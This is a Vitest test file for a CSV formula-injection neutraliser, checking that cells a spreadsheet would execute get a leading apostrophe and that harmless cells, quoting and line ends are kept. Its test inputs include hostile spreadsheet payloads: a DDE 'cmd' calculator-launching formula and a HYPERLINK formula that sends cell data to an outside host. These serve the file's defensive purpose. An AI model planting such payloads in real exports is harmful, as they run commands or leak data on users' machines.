import { describe, expect, it } from 'vitest';
import { neutraliseCell, neutraliseCsv, neutraliseTableText } from '../../../src-shared/csv-formula';

describe('CSV formula injection', () => {
  it.each(['=1+1', '+1', '-1', '@SUM(A1)', '\tx', '\rx', '=HYPERLINK("http://x/?"&A1)'])('prefixes a cell that a spreadsheet would run: %j', (cell) => {
    expect(neutraliseCell(cell)).toBe(`'${cell}`);
  });

  it.each(['', 'plain', '1-2', "'=already", ' =spaced', 'a=b'])('leaves %j alone', (cell) => {
    expect(neutraliseCell(cell)).toBe(cell);
  });

  it('neutralises plain and quoted cells and keeps the structure', () => {
    const csv = 'name,score\r\n=cmd|\' /C calc\'!A0,"=1+1"\r\n"a ""q""",-5\r\nok,"@x,y"\r\n';
    expect(neutraliseCsv(csv)).toBe('name,score\r\n\'=cmd|\' /C calc\'!A0,"\'=1+1"\r\n"a ""q""",\'-5\r\nok,"\'@x,y"\r\n');
  });

  it('handles LF line ends, empty cells and a last line without a line end', () => {
    expect(neutraliseCsv('a,,=b\n+c')).toBe("a,,'=b\n'+c");
    expect(neutraliseCsv('')).toBe('');
  });

  it('is idempotent', () => {
    const csv = '=a,"+b"\r\n-c,@d\r\n';
    expect(neutraliseCsv(neutraliseCsv(csv))).toBe(neutraliseCsv(csv));
  });

  it('neutralises each cell of text copied out of a table', () => {
    expect(neutraliseTableText('a\t=1+1\n@x\tb\r\n-3')).toBe("a\t'=1+1\n'@x\tb\r\n'-3");
  });
});
